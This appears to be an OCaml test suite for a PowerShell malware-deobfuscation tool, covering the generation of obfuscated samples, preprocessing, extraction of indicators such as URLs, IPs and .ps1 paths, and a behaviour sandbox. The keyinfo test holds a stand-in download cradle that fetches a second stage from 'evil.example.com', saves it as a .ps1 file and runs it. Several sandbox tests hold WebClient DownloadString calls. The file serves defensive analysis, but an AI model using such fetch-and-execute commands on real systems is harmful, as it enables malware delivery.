(* Tests for corpus generation, preprocessing, key-info extraction and the
   behaviour sandbox. *)

open Pscommon

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

(* ---------- generator ---------- *)

let test_generation_deterministic () =
  let a = Corpus.Generator.generate ~seed:5 ~count:10 in
  let b = Corpus.Generator.generate ~seed:5 ~count:10 in
  List.iter2
    (fun x y ->
      check_s "same clean" x.Corpus.Generator.clean y.Corpus.Generator.clean;
      check_s "same obfuscated" x.Corpus.Generator.obfuscated y.Corpus.Generator.obfuscated)
    a b;
  let c = Corpus.Generator.generate ~seed:6 ~count:10 in
  check_b "different seed differs" true
    ((List.hd a).Corpus.Generator.obfuscated
    <> (List.hd c).Corpus.Generator.obfuscated)

let test_generated_samples_valid () =
  List.iter
    (fun s ->
      check_b "clean valid" true
        (Psparse.Parser.is_valid_syntax s.Corpus.Generator.clean);
      check_b "obfuscated valid" true
        (Psparse.Parser.is_valid_syntax s.Corpus.Generator.obfuscated))
    (Corpus.Generator.generate ~seed:8 ~count:40)

let test_sized_generation () =
  let samples =
    Corpus.Generator.generate_sized ~seed:9 ~count:20 ~min_bytes:97 ~max_bytes:2048
  in
  check_b "nonempty" true (List.length samples > 0);
  List.iter
    (fun s ->
      let n = String.length s.Corpus.Generator.obfuscated in
      check_b "in window" true (n >= 97 && n <= 2048))
    samples

let test_multilayer_generation () =
  let samples =
    Corpus.Generator.generate_multilayer ~seed:10 ~count:5 ~min_depth:2 ~max_depth:3
  in
  check_i "count" 5 (List.length samples);
  List.iter
    (fun s ->
      check_b "has key info" true
        (Keyinfo.count (Keyinfo.extract s.Corpus.Generator.clean) > 0);
      check_b "valid" true (Psparse.Parser.is_valid_syntax s.Corpus.Generator.obfuscated))
    samples

let test_templates_have_behavior () =
  let rng = Rng.of_int 123 in
  let with_network = ref 0 in
  for _ = 1 to 30 do
    let _, clean = Corpus.Templates.generate rng in
    if Sandbox.has_network_behavior (Sandbox.run clean) then incr with_network
  done;
  check_b "most templates reach the network" true (!with_network > 20)

(* ---------- preprocessing ---------- *)

let test_preprocess_rejects_junk () =
  let rng = Rng.of_int 3 in
  let junk = Corpus.Preprocess.junk_samples rng in
  let { Corpus.Preprocess.kept; rejected } = Corpus.Preprocess.run junk in
  check_i "all junk rejected" 0 (List.length kept);
  check_i "rejections recorded" (List.length junk) (List.length rejected)

let test_preprocess_keeps_powershell () =
  let { Corpus.Preprocess.kept; _ } =
    Corpus.Preprocess.run [ "write-host hello"; "$x = 1 + 2" ]
  in
  check_i "both kept" 2 (List.length kept)

let test_preprocess_structural_dedup () =
  (* same structure, different strings: family variants collapse *)
  let a = "(New-Object Net.WebClient).DownloadString('http://one.example/a')" in
  let b = "(New-Object Net.WebClient).DownloadString('http://two.example/b')" in
  let c = "write-host different" in
  let { Corpus.Preprocess.kept; rejected } = Corpus.Preprocess.run [ a; b; c ] in
  check_i "one of the pair plus c" 2 (List.length kept);
  check_b "dup recorded" true
    (List.exists
       (fun (_, why) -> why = Corpus.Preprocess.Structural_duplicate)
       rejected)

let test_preprocess_single_string () =
  let { Corpus.Preprocess.rejected; _ } = Corpus.Preprocess.run [ "'just a string'" ] in
  check_b "single string rejected" true
    (List.exists (fun (_, why) -> why = Corpus.Preprocess.Single_string) rejected)

(* ---------- keyinfo ---------- *)

let test_keyinfo_extraction () =
  let src =
    "$u = 'https://evil.example.com/stage2.txt'\n\
     (New-Object Net.WebClient).DownloadFile($u, 'C:\\Users\\Public\\run.ps1')\n\
     powershell -File C:\\Users\\Public\\run.ps1\n\
     $ip = '10.1.2.3'"
  in
  let info = Keyinfo.extract src in
  check_b "url" true (List.mem "https://evil.example.com/stage2.txt" info.Keyinfo.urls);
  check_b "ip" true (List.mem "10.1.2.3" info.Keyinfo.ips);
  check_b "ps1" true
    (List.exists (fun p -> Strcase.contains ~needle:"run.ps1" p) info.Keyinfo.ps1_files);
  check_i "powershell command" 1 (List.length info.Keyinfo.powershell_commands)

let test_keyinfo_rejects_bad_ips () =
  let info = Keyinfo.extract "'999.1.2.3' and '1.2.3.4'" in
  Alcotest.(check (list string)) "only valid" [ "1.2.3.4" ] info.Keyinfo.ips

let test_keyinfo_dedup () =
  let info = Keyinfo.extract "'http://a.example/x' ; 'HTTP://A.EXAMPLE/x'" in
  check_i "caseless dedup" 1 (List.length info.Keyinfo.urls)

let test_keyinfo_intersection () =
  let ground = Keyinfo.extract "'http://a.example/1' '2.2.2.2'" in
  let got = Keyinfo.extract "'http://a.example/1' '3.3.3.3'" in
  let inter = Keyinfo.intersection ~ground_truth:ground got in
  check_i "only common counted" 1 (Keyinfo.count inter)

(* the whole-text search [Keyinfo] used to run, kept here as the
   reference for its one anchored match per run of path characters *)
let ps1_re = Regexen.Regex.compile {|[a-z0-9_\-\\/:\.\$%]+\.ps1\b|}

let ps1_reference src =
  List.map (Regexen.Regex.matched_text src) (Regexen.Regex.find_all ps1_re src)
  |> List.sort_uniq Strcase.compare

(* path-heavy strings: runs of path characters cut by a few separators,
   with [.ps1] endings in every case and followed by word or non-word
   characters *)
let path_heavy =
  let pieces =
    [| ".ps1"; ".PS1"; ".pS1x"; ".ps"; "1"; "a"; "Z"; "_"; "-"; "\\"; "/";
       ":"; "."; "$"; "%"; " "; "'"; "("; "\xc3\xa9" |]
  in
  QCheck.make ~print:String.escaped
    QCheck.Gen.(
      map (String.concat "")
        (list_size (int_range 0 60)
           (map (Array.get pieces) (int_bound (Array.length pieces - 1)))))

let prop_ps1_scan_matches_regex =
  QCheck.Test.make ~name:"keyinfo: ps1 scan equals the regex" ~count:1000
    path_heavy (fun src ->
      (Keyinfo.extract src).Keyinfo.ps1_files = ps1_reference src)

(* one match per run of path characters: a 64k-character run costs
   milliseconds, with and without a match at its start *)
let test_keyinfo_long_run_linear () =
  let run = String.make 65536 'a' in
  let t0 = Unix.gettimeofday () in
  let none = Keyinfo.extract ("C:\\" ^ run ^ " x") in
  let one = Keyinfo.extract ("x.ps1/" ^ run ^ ".ps1x") in
  let elapsed = Unix.gettimeofday () -. t0 in
  Alcotest.(check (list string)) "no ps1 in the run" [] none.Keyinfo.ps1_files;
  Alcotest.(check (list string)) "one ps1 at the run's start" [ "x.ps1" ]
    one.Keyinfo.ps1_files;
  check_b (Printf.sprintf "64k-char runs scanned in %.3f s (budget 1 s)" elapsed)
    true (elapsed < 1.0)

(* ---------- sandbox ---------- *)

let test_sandbox_records_and_compares () =
  let a = Sandbox.run "(New-Object Net.WebClient).DownloadString('http://one.example/') | Out-Null" in
  let b = Sandbox.run "$u = 'http://one.example/'; (New-Object Net.WebClient).DownloadString($u) | Out-Null" in
  let c = Sandbox.run "(New-Object Net.WebClient).DownloadString('http://other.example/') | Out-Null" in
  check_b "a has network" true (Sandbox.has_network_behavior a);
  check_b "same" true (Sandbox.same_network_behavior a b);
  check_b "different" false (Sandbox.same_network_behavior a c)

let test_sandbox_effective_requires_change () =
  let src = "(New-Object Net.WebClient).DownloadString('http://x.example/') | Out-Null" in
  check_b "unchanged is not effective" false
    (Sandbox.effective ~original:src ~deobfuscated:src);
  check_b "equivalent rewrite is effective" true
    (Sandbox.effective ~original:src
       ~deobfuscated:
         "$u = 'http://x.example/'; (New-Object Net.WebClient).DownloadString($u) | Out-Null")

let test_sandbox_error_keeps_events () =
  let report = Sandbox.run "Start-Sleep 1; undefined-cmdlet-xyz !!!" in
  check_b "events kept despite error" true
    (List.exists
       (fun e -> Pseval.Env.event_to_string e = "sleep:1")
       report.Sandbox.events)

let test_sandbox_network_signature_sorted_unique () =
  let report =
    Sandbox.run
      "(New-Object Net.WebClient).DownloadString('http://b.example/') | Out-Null\n\
       (New-Object Net.WebClient).DownloadString('http://b.example/') | Out-Null\n\
       (New-Object Net.WebClient).DownloadString('http://a.example/') | Out-Null"
  in
  Alcotest.(check (list string)) "sorted unique"
    [ "http-get:http://a.example/"; "http-get:http://b.example/" ]
    (Sandbox.network_signature report)

let test_dataset_write () =
  let dir = Filename.temp_file "corpus" "" in
  Sys.remove dir;
  let samples = Corpus.Generator.generate ~seed:77 ~count:4 in
  let written = Corpus.Dataset.write ~dir samples in
  check_i "count" 4 written;
  check_b "manifest exists" true (Sys.file_exists (Filename.concat dir "manifest.json"));
  check_b "sample exists" true (Sys.file_exists (Filename.concat dir "sample_0000.ps1"));
  let sample =
    In_channel.with_open_bin (Filename.concat dir "sample_0002.ps1") In_channel.input_all
  in
  check_s "content matches" (List.nth samples 2).Corpus.Generator.obfuscated sample

let suite =
  [
    ("generation deterministic", `Quick, test_generation_deterministic);
    ("generated samples valid", `Quick, test_generated_samples_valid);
    ("sized generation", `Quick, test_sized_generation);
    ("multilayer generation", `Quick, test_multilayer_generation);
    ("templates have behavior", `Quick, test_templates_have_behavior);
    ("preprocess rejects junk", `Quick, test_preprocess_rejects_junk);
    ("preprocess keeps powershell", `Quick, test_preprocess_keeps_powershell);
    ("preprocess structural dedup", `Quick, test_preprocess_structural_dedup);
    ("preprocess single string", `Quick, test_preprocess_single_string);
    ("keyinfo extraction", `Quick, test_keyinfo_extraction);
    ("keyinfo bad ips", `Quick, test_keyinfo_rejects_bad_ips);
    ("keyinfo dedup", `Quick, test_keyinfo_dedup);
    ("keyinfo intersection", `Quick, test_keyinfo_intersection);
    ("keyinfo long path run", `Quick, test_keyinfo_long_run_linear);
    QCheck_alcotest.to_alcotest prop_ps1_scan_matches_regex;
    ("sandbox record/compare", `Quick, test_sandbox_records_and_compares);
    ("sandbox effectiveness rule", `Quick, test_sandbox_effective_requires_change);
    ("sandbox error keeps events", `Quick, test_sandbox_error_keeps_events);
    ("sandbox signature sorted", `Quick, test_sandbox_network_signature_sorted_unique);
    ("dataset write", `Quick, test_dataset_write);
  ]
